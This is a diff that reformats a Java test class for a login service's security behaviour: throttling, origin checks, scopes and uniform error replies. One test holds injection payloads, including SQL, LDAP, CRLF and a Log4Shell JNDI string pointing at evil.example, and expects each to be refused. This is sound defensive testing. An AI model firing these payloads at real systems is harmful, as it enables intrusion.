@@ -59,7 +59,9 @@ class LoginTest {
     String fresh = Http.body(200, http.form("/oauth2/token", refresh)).get("access_token").asText();
     assertEquals(
         user.id().toString(),
-        Http.body(200, http.get("/api/user", "Authorization", "Bearer " + fresh)).get("id").asText());
+        Http.body(200, http.get("/api/user", "Authorization", "Bearer " + fresh))
+            .get("id")
+            .asText());
   }
 
   @Test
@@ -73,7 +75,8 @@ class LoginTest {
   void unknownUserAndWrongPasswordAreOneAnswer() {
     User user = testUsers.user();
     ObjectNode wrong = (ObjectNode) Http.body(401, logIn(user.username(), "wrong password"));
-    ObjectNode unknown = (ObjectNode) Http.body(401, logIn(TestUsers.freshName(), "wrong password"));
+    ObjectNode unknown =
+        (ObjectNode) Http.body(401, logIn(TestUsers.freshName(), "wrong password"));
 
     assertNotEquals(wrong.remove("instance"), unknown.remove("instance"));
     assertEquals(wrong, unknown);
@@ -85,7 +88,8 @@ class LoginTest {
     User administrator = testUsers.administrator();
 
     assertEquals("user:read", Http.body(200, logIn(user, "user:read")).get("scope").asText());
-    assertEquals("users:read", Http.body(200, logIn(administrator, "users:read")).get("scope").asText());
+    assertEquals(
+        "users:read", Http.body(200, logIn(administrator, "users:read")).get("scope").asText());
     assertTrue(testUsers.logIn(administrator).get("scope").asText().contains("clients:write"));
     Http.body(400, logIn(user, "users:read"));
     Http.body(400, logIn(user, "offline_access"));
@@ -96,7 +100,8 @@ class LoginTest {
   @Test
   void pagesOfOtherOriginsAreRefused() {
     User user = testUsers.user();
-    String body = "{\"login\":\"%s\",\"password\":\"%s\"}".formatted(user.username(), TestUsers.PASSWORD);
+    String body =
+        "{\"login\":\"%s\",\"password\":\"%s\"}".formatted(user.username(), TestUsers.PASSWORD);
 
     Http.body(403, http.json("POST", "/api/login", body, "Origin", "https://evil.example"));
     Http.body(403, http.json("POST", "/api/login", body, "Origin", "null"));
@@ -116,7 +121,13 @@ class LoginTest {
 
   @ParameterizedTest
   @ValueSource(
-      strings = {"' or '1'='1", "*)(uid=*))(|(uid=*", "${jndi:ldap://evil.example/x}", "a\\r\\nSet-Cookie:x=1", "\\u0000"})
+      strings = {
+        "' or '1'='1",
+        "*)(uid=*))(|(uid=*",
+        "${jndi:ldap://evil.example/x}",
+        "a\\r\\nSet-Cookie:x=1",
+        "\\u0000"
+      })
   void injectionIsAPlainRefusal(String login) {
     Http.body(401, logIn(login, login));
   }
@@ -133,7 +144,8 @@ class LoginTest {
   void canBeSwitchedOff() {
     try (TestServer closed = TestServer.start(Map.of("gatewright.login-api.enabled", false))) {
       User user = new TestUsers(closed).user();
-      String body = "{\"login\":\"%s\",\"password\":\"%s\"}".formatted(user.username(), TestUsers.PASSWORD);
+      String body =
+          "{\"login\":\"%s\",\"password\":\"%s\"}".formatted(user.username(), TestUsers.PASSWORD);
 
       JsonNode problem = Http.body(403, new Http(closed).json("POST", "/api/login", body));
       assertEquals("urn:gatewright:problem:login-forbidden", problem.get("type").asText());
@@ -145,8 +157,10 @@ class LoginTest {
     try (TestServer strict =
         TestServer.start(
             Map.of(
-                "gatewright.login-throttle.failures-per-login", 3,
-                "gatewright.login-throttle.refill-per-login", "1h"))) {
+                "gatewright.login-throttle.failures-per-login",
+                3,
+                "gatewright.login-throttle.refill-per-login",
+                "1h"))) {
       TestUsers users = new TestUsers(strict);
       User user = users.user();
       User other = users.user();
@@ -158,10 +172,12 @@ class LoginTest {
       for (int i = 0; i < 3; i++) {
         Http.body(401, caller.json("POST", "/api/login", wrong.formatted(user.username())));
       }
-      HttpResponse<String> refused = caller.json("POST", "/api/login", wrong.formatted(user.username()));
+      HttpResponse<String> refused =
+          caller.json("POST", "/api/login", wrong.formatted(user.username()));
       Http.body(429, refused);
       assertTrue(Integer.parseInt(Http.header(refused, "Retry-After")) > 60, refused.toString());
-      String right = "{\"login\":\"%s\",\"password\":\"%s\"}".formatted(user.username(), TestUsers.PASSWORD);
+      String right =
+          "{\"login\":\"%s\",\"password\":\"%s\"}".formatted(user.username(), TestUsers.PASSWORD);
       Http.body(429, caller.json("POST", "/api/login", right));
       users.logIn(other);
     }
@@ -172,8 +188,10 @@ class LoginTest {
     try (TestServer strict =
         TestServer.start(
             Map.of(
-                "gatewright.login-throttle.failures-per-address", 3,
-                "gatewright.login-throttle.refill-per-address", "1h"))) {
+                "gatewright.login-throttle.failures-per-address",
+                3,
+                "gatewright.login-throttle.refill-per-address",
+                "1h"))) {
       Http caller = new Http(strict);
       String wrong = "{\"login\":\"%s\",\"password\":\"wrong password\"}";
       for (int i = 0; i < 3; i++) {
@@ -183,7 +201,11 @@ class LoginTest {
       Http.body(
           429,
           caller.json(
-              "POST", "/api/login", wrong.formatted(TestUsers.freshName()), "X-Forwarded-For", "203.0.113.7"));
+              "POST",
+              "/api/login",
+              wrong.formatted(TestUsers.freshName()),
+              "X-Forwarded-For",
+              "203.0.113.7"));
     }
   }
 
